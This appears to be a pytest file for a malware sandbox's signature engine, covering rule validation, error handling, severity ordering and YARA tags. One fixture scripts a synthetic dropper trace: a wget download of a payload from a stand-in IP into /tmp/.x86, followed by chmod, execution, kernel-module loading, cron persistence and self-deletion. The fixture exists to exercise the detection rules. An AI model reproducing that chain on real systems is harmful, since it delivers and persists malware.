"""The signature engine: loading and checking rules, running them, surviving broken ones."""

from __future__ import annotations

import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

# tests/unit is on sys.path (pytest rootdir insertion), so the trace generator of the
# processing tests is importable as the package pytest gives it.
from processing.tracegen import (  # type: ignore[import-not-found]
    FILE_POINTER,
    started,
    wire_ipv4,
    wire_port,
)

from aasee.processing.attack import attack_summary
from aasee.processing.behaviour import build_behaviour
from aasee.processing.models import Analysis, Report
from aasee.processing.report import report_dict, validate_report
from aasee.processing.scoring import score
from aasee.processing.signatures import (
    MAX_EVIDENCE,
    ReportIndex,
    Signature,
    all_signatures,
    check_signature,
    run_signatures,
    signature_problems,
)
from aasee.processing.signatures import rules as bundled_rules
from aasee.processing.signatures.engine import load_rules
from aasee.processing.signatures.models import Evidence
from aasee.processing.trace_parser import parse_trace

from .builder import SAMPLE, Builder, resolve, yara


def _rule(**attributes: object) -> type[Signature]:
    base: dict[str, object] = {
        "id": "test_rule",
        "name": "A test rule",
        "description": "Matches in tests.",
        "severity": "low",
        "category": "discovery",
        "techniques": ("T1082",),
    }
    base.update(attributes)
    return type("TestRule", (Signature,), base)


class TestBundledSet:
    def test_loads_cleanly_and_is_large_enough(self) -> None:
        assert signature_problems() == []
        assert len(all_signatures()) >= 40

    def test_one_signature_per_module(self) -> None:
        modules = {cls.__module__ for cls in all_signatures()}
        files = [
            p for p in Path(bundled_rules.__file__).parent.glob("*.py") if p.stem != "__init__"
        ]
        assert len(modules) == len(files) == len(all_signatures())

    def test_every_technique_is_a_current_attack_id(self) -> None:
        for cls in all_signatures():
            assert check_signature(cls) == [], cls.id

    def test_ids_are_unique_and_modules_start_with_their_category_family(self) -> None:
        ids = [cls.id for cls in all_signatures()]
        assert len(ids) == len(set(ids))
        for cls in all_signatures():
            assert cls.__module__.rsplit(".", 1)[1] == cls.id

    def test_benign_kinds_of_activity_are_low_at_most(self) -> None:
        # Signatures whose evidence ordinary programs produce must not weigh in the score.
        for rule_id in (
            "discovery_system_info",
            "discovery_network_config",
            "discovery_processes",
            "discovery_users",
            "antianalysis_tracerpid_check",
            "execution_inline_interpreter",
            "execution_written_file_run",
        ):
            (cls,) = [c for c in all_signatures() if c.id == rule_id]
            assert cls.severity in ("info", "low"), rule_id


class TestChecks:
    def test_sound_rule(self) -> None:
        assert check_signature(_rule()) == []

    @pytest.mark.parametrize(
        ("attributes", "problem"),
        [
            ({"techniques": ("T1562.001",)}, "moved by ATT&CK v19: name T1685 instead"),
            ({"techniques": ("T9999",)}, "neither in ATT&CK v18.1 nor in the v19 id map"),
            ({"techniques": ("T1002",)}, "T1002 is revoked in ATT&CK v18.1"),
            ({"severity": "severe"}, "severity 'severe' is not one of"),
            ({"category": "defense-evasion"}, "category 'defense-evasion' is not one of"),
            ({"id": "Bad Id"}, "id must be lower_snake_case"),
            ({"name": ""}, "name must be a non-empty string"),
            ({"techniques": ["T1082"]}, "must be tuples"),
        ],
    )
    def test_unsound_rules_are_refused(self, attributes: dict[str, object], problem: str) -> None:
        problems = check_signature(_rule(**attributes))
        assert any(problem in p for p in problems), problems

    def test_a_rules_package_keeps_the_sound_rules_and_says_why_others_were_left_out(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        package = tmp_path / "extra_rules_for_test"
        package.mkdir()
        (package / "__init__.py").write_text("")
        header = "from aasee.processing.signatures import Signature\n"
        body = textwrap.dedent(
            """
            class {name}(Signature):
                id = "{id}"
                name = "n"
                description = "d"
                severity = "low"
                category = "discovery"
                techniques = {techniques}
                def match(self, ctx):
                    return []
            """
        )
        (package / "a_good.py").write_text(
            header + body.format(name="Good", id="good_rule", techniques="()")
        )
        (package / "b_two.py").write_text(
            header
            + body.format(name="One", id="one_rule", techniques="()")
            + body.format(name="Two", id="two_rule", techniques="()")
        )
        (package / "c_broken.py").write_text("import nothing_of_that_name\n")
        (package / "d_duplicate.py").write_text(
            header + body.format(name="Dup", id="good_rule", techniques="()")
        )
        (package / "e_moved.py").write_text(
            header + body.format(name="Moved", id="moved_rule", techniques='("T1070.002",)')
        )
        monkeypatch.syspath_prepend(str(tmp_path))
        try:
            loaded = load_rules("extra_rules_for_test", [str(package)])
        finally:
            for name in [m for m in sys.modules if m.startswith("extra_rules_for_test")]:
                del sys.modules[name]
        assert [cls.id for cls in loaded.signatures] == ["good_rule"]
        problems = "\n".join(loaded.problems)
        assert "b_two: holds 2 signatures, not one" in problems
        assert "c_broken: ModuleNotFoundError" in problems
        assert "good_rule: id also used by module a_good" in problems
        assert "T1070.002 was moved by ATT&CK v19: name T1685.006 instead" in problems


class _Boom(Signature):
    id = "test_boom"
    name = "Raises"
    description = "Always fails."
    severity = "high"
    category = "impact"

    def match(self, ctx: ReportIndex) -> Iterator[Evidence]:
        yield from ()
        raise RuntimeError("rule defect")


class _Many(Signature):
    id = "test_many"
    name = "Many facts"
    description = "Thirty distinct facts, each twice."
    severity = "info"
    category = "discovery"

    def match(self, ctx: ReportIndex) -> Iterator[Evidence]:
        for _ in range(2):
            for i in range(30):
                yield Evidence(ref=f"/files/read/{i}", summary="read")


class TestRunning:
    def test_a_failing_rule_is_recorded_and_the_others_still_run(self) -> None:
        builder = Builder()
        builder.write("/etc/cron.d/job")
        cron = next(c for c in all_signatures() if c.id == "persistence_cron")
        matches, errors = run_signatures(builder.build(), [_Boom, cron])
        assert errors == ["signature test_boom: RuntimeError: rule defect"]
        assert [m.id for m in matches] == ["persistence_cron"]

    def test_evidence_is_deduplicated_and_capped(self) -> None:
        builder = Builder()
        for i in range(30):
            builder.read(f"/etc/f{i}")
        (match,), _ = run_signatures(builder.build(), [_Many])
        assert match.count == 30
        assert len(match.evidence) == MAX_EVIDENCE and match.evidence_truncated

    def test_matches_are_sorted_by_severity_then_id(self) -> None:
        builder = Builder()
        builder.read("/proc/self/status")  # low
        builder.write("/etc/ld.so.preload")  # high
        builder.write("/dev/sda")  # critical
        builder.write("/root/.profile")  # medium
        matches, errors = run_signatures(builder.build())
        assert errors == []
        ranks = ["critical", "high", "medium", "low", "info"]
        keys = [(ranks.index(m.severity), m.id) for m in matches]
        assert keys == sorted(keys)
        assert matches[0].id == "impact_disk_wipe"

    def test_an_empty_report_matches_nothing(self) -> None:
        report = Report(sample=SAMPLE, analysis=Analysis(id="empty"))
        assert run_signatures(report) == ([], [])


def _dropper_trace_report() -> Report:
    """A dropper, as the kernel trace shows it: wget a payload, chmod, run, persist, vanish."""
    trace = started(10)
    trace.fork(10, 11)
    trace.exec(11, "/usr/bin/wget", ["wget", "-q", "http://203.0.113.5/x86", "-O", "/tmp/.x86"])
    address = f"fam=2 port={wire_port(80)} addr={wire_ipv4('203.0.113.5')} a6hi=0x0 a6lo=0x0 len=16"
    trace.add(11, "connect", address, comm="wget").add(11, "connect_r", "ret=0", comm="wget")
    trace.open(11, "/tmp/.x86", flags=0x241, mode=0x1B6, comm="wget")
    trace.exit(11, comm="wget")
    trace.add(10, "chmod", 'path="/tmp/.x86" mode=0x1ff')
    trace.fork(10, 12)
    trace.exec(12, "/tmp/.x86", ["/tmp/.x86"])
    trace.syscall(12, 313, [3, 0, 0], ret=0, comm=".x86")  # finit_module
    trace.open(10, "/etc/cron.d/.x86", flags=0x241, mode=0x1A4)
    trace.add(10, "ptrace", "request=0 pid=0")
    trace.add(10, "unlink", 'dfd=-100 path="/tmp/sample"').add(10, "unlink_r", "ret=0")
    behaviour = build_behaviour(parse_trace(trace.lines), 10)
    return Report(
        sample=SAMPLE,
        analysis=Analysis(id="dropper"),
        processes=behaviour.processes,
        process_tree=behaviour.process_tree,
        files=behaviour.files,
        network=behaviour.network,
        syscalls=behaviour.syscalls,
    )


def test_dropper_from_a_kernel_trace() -> None:
    report = _dropper_trace_report()
    matches, errors = run_signatures(report)
    assert errors == []
    found = {m.id for m in matches}
    assert {
        "execution_download_chmod_exec",
        "persistence_cron",
        "persistence_kernel_module",
        "stealth_self_deletion",
        "stealth_hidden_tmp_directory",
        "antianalysis_ptrace_traceme",
        "execution_written_file_run",
    } <= found
    for match in matches:
        for evidence in match.evidence:
            resolve(report, evidence.ref)
    chain = next(m for m in matches if m.id == "execution_download_chmod_exec")
    # The fetcher's connection, its write, the chmod and the exec, in that order.
    assert [e.ref.split("/")[1:3] for e in chain.evidence] == [
        ["network", "connections"],
        ["files", "written"],
        ["files", "chmod"],
        ["processes", "2"],
    ]
    assert len({e.process for e in chain.evidence[:2]}) == 1
    report.signatures = matches
    report.attack = attack_summary(matches)
    report.score, report.verdict, report.score_details = score(matches)
    assert report.verdict == "malicious"
    validate_report(report_dict(report))
    filed = {t for tactic in report.attack.tactics for t in tactic.techniques}
    assert filed == {t.id for t in report.attack.techniques}
    assert FILE_POINTER  # the trace used the generator's real file pointers


def test_yara_tags_become_families() -> None:
    builder = Builder()
    builder.static(
        yara=[yara("AASEE_XMRig_Miner", ["miner"]), yara("AASEE_UPX_Packed_ELF", ["packer"])]
    )
    (match,), _ = run_signatures(
        builder.build(), [c for c in all_signatures() if c.id == "static_yara"]
    )
    assert match.families == ["coinminer"]
    assert [e.ref for e in match.evidence] == ["/static/yara/0", "/static/yara/1"]
